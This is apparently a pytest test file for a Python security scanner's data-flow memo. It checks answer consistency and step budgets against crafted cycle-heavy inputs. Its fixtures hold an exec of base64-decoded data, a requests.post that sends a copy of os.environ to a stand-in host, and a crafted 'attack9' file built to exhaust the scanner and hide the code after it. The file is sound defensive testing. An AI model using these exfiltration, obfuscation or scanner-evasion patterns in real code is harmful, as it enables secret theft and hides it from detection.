"""The data flow's exact memo: answers that do not depend on the order questions are
asked in, and bounds crafted code cannot pass (caplet._scan._flow_memo, issue 16)."""

from __future__ import annotations

import ast
import random
import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan import _flow_memo
from caplet._scan._filescan import FileScan
from caplet._scan._flow import Flow
from caplet._scan._grants import NO_GRANTS
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_tree
from caplet._scan._sources import Source
from caplet._scan._syntax import Survey, survey
from caplet._scan._visitor import RuleVisitor

from .test_flow import flow_of


def fresh(source: str) -> tuple[Flow, Survey]:
    """A data flow no question was asked of yet (the visitor's pass is not run)."""
    surveyed = survey(ast.parse(textwrap.dedent(source)), 200, 100_000)
    assert isinstance(surveyed, Survey)
    return Flow(surveyed.bindings, surveyed.nodes, surveyed.scopes), surveyed


def loads(surveyed: Survey, name: str) -> list[ast.Name]:
    return [
        n
        for n in surveyed.nodes
        if isinstance(n, ast.Name) and n.id == name and isinstance(n.ctx, ast.Load)
    ]


def sources(labels: frozenset[tuple[Source, str]]) -> set[Source]:
    return {s for s, _ in labels}


_CYCLE = """
    import base64
    a = base64.b64decode(blob)
    a = b
    b = a
    c = b
    exec(c)
"""


@pytest.mark.parametrize("order", [("a", "b", "c"), ("c", "b", "a"), ("b", "a", "c")])
def test_a_cycle_gives_every_name_the_same_answer_in_any_order(order: tuple[str, ...]) -> None:
    # The old memo kept b's answer computed while a was in progress (the cut: "a adds
    # nothing"), so b and c carried nothing when a was asked first, DECODED otherwise.
    flow, _ = fresh(_CYCLE)
    answers = {name: flow.name_labels(name, 0) for name in order}
    assert {name: sources(labels) for name, labels in answers.items()} == {
        "a": {Source.DECODED},
        "b": {Source.DECODED},
        "c": {Source.DECODED},
    }


def test_node_questions_agree_with_name_questions_in_both_orders() -> None:
    first, surveyed = fresh(_CYCLE)
    nodes = [*loads(surveyed, "b"), *loads(surveyed, "a"), *loads(surveyed, "c")]
    forward = [first.labels(n) for n in nodes]
    second, surveyed = fresh(_CYCLE)
    nodes = [*loads(surveyed, "b"), *loads(surveyed, "a"), *loads(surveyed, "c")]
    backward = [second.labels(n) for n in reversed(nodes)]
    assert forward == list(reversed(backward))
    assert all(sources(labels) == {Source.DECODED} for labels in forward)


def _chain(length: int) -> str:
    lines = ["import base64", "x0 = base64.b64decode(blob)"]
    lines += [f"x{i} = x{i - 1}" for i in range(1, length)]
    lines.append(f"exec(x{length - 1})")
    return "\n".join(lines)


def test_a_chain_past_the_depth_bound_is_followed_to_its_source() -> None:
    # The old depth cut kept "nothing" for the chain's middle when its end was asked
    # first, so the middle's answer depended on which was asked first.
    source = _chain(300)
    end_first, _ = fresh(source)
    assert sources(end_first.name_labels("x299", 0)) == {Source.DECODED}
    assert sources(end_first.name_labels("x150", 0)) == {Source.DECODED}
    middle_first, _ = fresh(source)
    assert sources(middle_first.name_labels("x150", 0)) == {Source.DECODED}
    assert sources(middle_first.name_labels("x299", 0)) == {Source.DECODED}


def test_a_long_chain_in_a_scanned_file_is_no_recursion_error() -> None:
    flow, surveyed = flow_of(_chain(2_000))
    assert sources(flow.labels(loads(surveyed, "x1998")[-1])) == {Source.DECODED}


def test_one_entry_of_the_environment_in_a_cycle_is_the_same_in_both_orders() -> None:
    # env["HOME"] keeps one variable of the environment a copy carries: a label that
    # filters its part, inside a cycle (its members keep their answers per question).
    source = """
        import os
        env = os.environ.copy()
        env = home
        home = env["HOME"]
        out = home
        """
    one, _ = fresh(source)
    forward = (one.name_labels("env", 0), one.name_labels("home", 0), one.name_labels("out", 0))
    two, _ = fresh(source)
    backward = (two.name_labels("out", 0), two.name_labels("home", 0), two.name_labels("env", 0))
    assert forward == tuple(reversed(backward))


def _crafted(cycle: int, uses: int) -> str:
    """A cycle of names longer than the depth bound (never exact), asked at every use."""
    lines = [f"x0 = x{cycle - 1} + data"]
    lines += [f"x{i} = x{i - 1}" for i in range(1, cycle)]
    lines += [f"exec(x{i % cycle})" for i in range(uses)]
    return "\n".join(lines)


def test_a_crafted_file_spends_its_budget_and_stops(monkeypatch: pytest.MonkeyPatch) -> None:
    # Each use asks a question whose rounds never become exact: without the file's
    # budget every question would cost thousands of frames, uses times over.
    # (attack9: past a spent budget the answers are kept for good, so the first question
    # over its own budget already makes the rest cheap; each question as costly as the
    # file's budget to spend that one)
    monkeypatch.setattr(_flow_memo, "QUESTION_STEPS", _flow_memo.FILE_STEPS)
    flow, surveyed = fresh(_crafted(300, 2_000))
    before = _flow_memo.CUTS["file budget"]
    for call in [n for n in surveyed.nodes if isinstance(n, ast.Call)]:
        flow.labels(call)
    assert flow._file_steps <= _flow_memo.FILE_STEPS
    assert _flow_memo.CUTS["file budget"] > before


def test_a_crafted_file_spends_a_questions_budget_and_stops() -> None:
    flow, surveyed = fresh(_crafted(300, 2_000))
    before = _flow_memo.CUTS["question budget"]
    for call in [n for n in surveyed.nodes if isinstance(n, ast.Call)]:
        flow.labels(call)
    assert flow._file_steps <= _flow_memo.QUESTION_STEPS + len(surveyed.nodes)
    assert _flow_memo.CUTS["question budget"] > before


def test_without_the_file_budget_the_crafted_file_would_cost_much_more(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    bound = _flow_memo.FILE_STEPS
    monkeypatch.setattr(_flow_memo, "FILE_STEPS", 10**9)
    # (and without each question's: attack9's spent budget keeps its answers for good)
    monkeypatch.setattr(_flow_memo, "QUESTION_STEPS", 10**9)
    flow, surveyed = fresh(_crafted(300, 3))
    for call in [n for n in surveyed.nodes if isinstance(n, ast.Call)]:
        flow.labels(call)
    # 3 questions already pass the bound that 2,000 stay under
    assert flow._file_steps > bound


def test_one_question_over_its_budget_does_not_empty_the_others(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(_flow_memo, "QUESTION_STEPS", 100)
    source = _chain(300) + "\nimport os\nh = os.environ\nexec(h)\n"
    flow, _ = fresh(source)
    assert flow.name_labels("x299", 0) == frozenset()  # over its own budget
    assert sources(flow.name_labels("h", 0)) == {Source.ENVIRONMENT}


def test_a_scan_of_the_crafted_file_finishes() -> None:
    text = _crafted(300, 3_000)
    surveyed = survey(ast.parse(text), 200, 100_000)
    assert isinstance(surveyed, Survey)
    visitor = RuleVisitor(
        FileScan("x.py", text, NO_GRANTS, ()), surveyed.bindings, surveyed.nodes, surveyed.scopes
    )
    visitor.run()
    assert visitor.flow._file_steps <= _flow_memo.FILE_STEPS


def _random_program(seed: int) -> str:
    """Names bound to one another at random: cycles, sources, one entry of the
    environment (a label that filters), calls carrying their arguments."""
    rng = random.Random(seed)
    names = [f"n{i}" for i in range(rng.randint(3, 12))]
    lines = ["import os, base64"]
    for name in names:
        for _ in range(rng.randint(1, 2)):
            other, third = rng.choice(names), rng.choice(names)
            lines.append(
                rng.choice(
                    [
                        f"{name} = {other}",
                        f"{name} = {other} + {third}",
                        f'{name} = {other}["HOME"]',
                        f'{name} = {other}.get("PATH")',
                        f"{name} = f({other}, {third})",
                        f"{name} = os.environ.copy()",
                        f"{name} = base64.b64decode({other})",
                        f"{name} = [{other}]",
                    ]
                )
            )
    return "\n".join(lines)


@pytest.mark.parametrize("seed", range(60))
def test_random_programs_answer_the_same_in_any_order(seed: int) -> None:
    source = _random_program(seed)
    names = sorted({line.split(" = ")[0] for line in source.splitlines()[1:]})
    answers: list[dict[str, frozenset[tuple[Source, str]]]] = []
    for order in range(4):
        flow, _ = fresh(source)
        asked = names[:]
        random.Random(order).shuffle(asked)
        answers.append({name: flow.name_labels(name, 0) for name in asked})
    assert all(a == answers[0] for a in answers), source


# -- attack9: a spent budget must not empty the answers asked after it -------------------
_AFTER_THE_CRAFTED_PART = """
import base64, os, requests
k = os.environ
t = dict(k)
requests.post('https://x.example/u', data=t)
p = base64.b64decode('aW1wb3J0IG9z')
q = p
exec(q)
"""


def test_questions_after_the_file_budget_is_spent_are_still_answered(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # attack9: 2,000 uses of a cycle longer than the depth bound spent the file's budget,
    # and every later question was answered empty: the environment posted and the
    # decoded exec after them (a 27 KB file) were no DANGER, which 51d254d reported.
    monkeypatch.setattr(_flow_memo, "QUESTION_STEPS", _flow_memo.FILE_STEPS)
    flow, surveyed = fresh(_crafted(300, 2_000) + _AFTER_THE_CRAFTED_PART)
    for call in [n for n in surveyed.nodes if isinstance(n, ast.Call)]:
        flow.labels(call)
    assert flow._file_steps >= _flow_memo.FILE_STEPS  # the budget was spent
    assert Source.DECODED in sources(flow.name_labels("q", 0))
    assert Source.ENVIRONMENT in sources(flow.name_labels("t", 0))


def test_a_question_over_its_own_budget_still_reaches_a_decoded_part(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # the decoded part after the costly one in the same expression
    monkeypatch.setattr(_flow_memo, "QUESTION_STEPS", 100)
    source = _chain(300) + "\nimport base64\nq = x299 + base64.b64decode('aQ==')\n"
    flow, _ = fresh(source)
    assert Source.DECODED in sources(flow.name_labels("q", 0))


def test_a_scan_past_the_spent_budget_reports_what_follows(tmp_path: Path) -> None:
    text = _crafted(300, 2_000) + _AFTER_THE_CRAFTED_PART
    (tmp_path / "mod.py").write_text(text, encoding="utf-8")
    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
    found = {f.rule_id for f in report.findings if f.severity is Severity.DANGER}
    assert {"CPL-THR-001", "CPL-THR-006"} <= found
